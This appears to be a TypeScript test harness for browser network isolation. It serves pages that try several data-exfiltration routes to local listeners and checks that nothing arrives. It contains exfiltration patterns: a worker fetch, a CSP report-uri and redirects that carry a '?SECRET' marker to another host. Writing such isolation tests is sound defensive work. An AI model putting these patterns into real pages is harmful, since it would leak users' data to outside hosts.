/** A bank whose pages try each way out, and a listener of its own for each of them, where nothing may arrive. */
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import { type AddressInfo, createServer as createTcpServer } from 'node:net';
import type { BrowserContext } from 'playwright-core';
import { type WayOut, waysOut } from './ways-out.ts';

export type Forbidden = WayOut & {
  /** `host:port` of its listener. */
  there: string;
  /** What has arrived: for TCP the first bytes of each connection, or nothing where there were none. */
  arrived: string[];
};

export async function startForbidden(): Promise<{ all: Forbidden[]; close(): void }> {
  const closers: (() => void)[] = [];
  const all = await Promise.all(
    waysOut.map(async (way) => {
      const arrived: string[] = [];
      if (way.over === 'udp') {
        const socket = createSocket('udp4', (message) => arrived.push(`${message.length} bytes`));
        socket.bind(0, '127.0.0.1');
        await once(socket, 'listening');
        closers.push(() => socket.close());
        return { ...way, arrived, there: `127.0.0.1:${socket.address().port}` };
      }
      const server = createTcpServer((socket) => {
        arrived.push('');
        const at = arrived.length - 1;
        socket.on('error', () => undefined);
        socket.once('data', (data) => {
          arrived[at] = data.toString('latin1').split('\r\n')[0] ?? '';
          socket.end(
            'HTTP/1.1 200 OK\r\nContent-Length: 0\r\nAccess-Control-Allow-Origin: *\r\nConnection: close\r\n\r\n',
          );
        });
      });
      server.listen(0, '127.0.0.1');
      await once(server, 'listening');
      closers.push(() => server.close());
      return { ...way, arrived, there: `127.0.0.1:${(server.address() as AddressInfo).port}` };
    }),
  );
  return {
    all,
    close() {
      for (const close of closers) close();
    },
  };
}

/** Serves a page for each group of ways, and sends on from `/to`. */
export async function startHostileBank(forbidden: Forbidden[]) {
  const pages = inPages(forbidden);
  const answer = (request: IncomingMessage, response: ServerResponse) => {
    const url = new URL(request.url ?? '/', 'http://bank');
    const to = url.searchParams.get('to') ?? '';
    request.resume();
    if (url.pathname === '/to')
      return response.writeHead(Number(url.searchParams.get('status')), { location: to }).end();
    if (url.pathname === '/worker.js')
      return response.setHeader('content-type', 'text/javascript').end(`fetch('http://${to}/x', { mode: 'no-cors' })`);
    response.setHeader('content-type', 'text/html');
    if (url.pathname === '/policy')
      response.setHeader('content-security-policy', `img-src 'none'; report-uri http://${to}/report?SECRET`);
    const shown = pages[Number(/^\/page\/(\d+)$/.exec(url.pathname)?.[1] ?? Number.NaN)] ?? [];
    const scripts = shown.map(
      ({ script, there }) => `(async (there) => {
      const sentOn = (status) => location.origin + '/to?status=' + status + '&to=' + encodeURIComponent('http://' + there + '/x?SECRET');
      ${script}
    })('${there}').catch(() => {});`,
    );
    response.end(`<!doctype html><body><img src="/none"><script>${scripts.join('\n')}</script>`);
  };
  const server = createServer(answer);
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const host = `127.0.0.1:${(server.address() as AddressInfo).port}`;
  return {
    host,
    /** Lets the pages try all of it. */
    async visit(context: BrowserContext) {
      await Promise.all(
        pages.map(async (_, index) => {
          const page = await context.newPage();
          await page.goto(`http://${host}/page/${index}`, { waitUntil: 'commit' });
        }),
      );
    },
    close() {
      server.closeAllConnections();
      server.close();
    },
  };
}

/** A page that asks for too much at once keeps some of it waiting. */
const MOST_OF_A_PAGE = 8;

function inPages(forbidden: Forbidden[]): Forbidden[][] {
  const alone = forbidden.filter((way) => way.alone).map((way) => [way]);
  const together = forbidden.filter((way) => !way.alone);
  const count = Math.ceil(together.length / MOST_OF_A_PAGE);
  return [...alone, ...Array.from({ length: count }, (_, nth) => together.filter((_way, at) => at % count === nth))];
}
